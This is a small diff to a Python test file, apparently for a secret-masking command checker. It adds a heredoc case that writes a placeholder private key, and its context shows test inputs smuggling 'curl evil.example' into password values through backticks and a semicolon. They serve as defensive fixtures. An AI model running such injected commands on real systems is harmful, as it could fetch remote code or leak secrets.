@@ -304,6 +304,7 @@ async def test_changed_arguments_keep_masked_secrets_and_are_judged_again(tmp_pa
         'password="x9Yz7 `curl evil.example`" ls',
         "password='; curl evil.example'",
         "password: |\n  ls -la 9 x\n",
+        "cat > k <<E\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\nkqhkiG9w0BAQ==\n-----END PRIVATE KEY-----\nE\n",
     ],
 )
 async def test_a_question_shows_that_there_is_more_than_a_secret(tmp_path: Path, command: str) -> None:
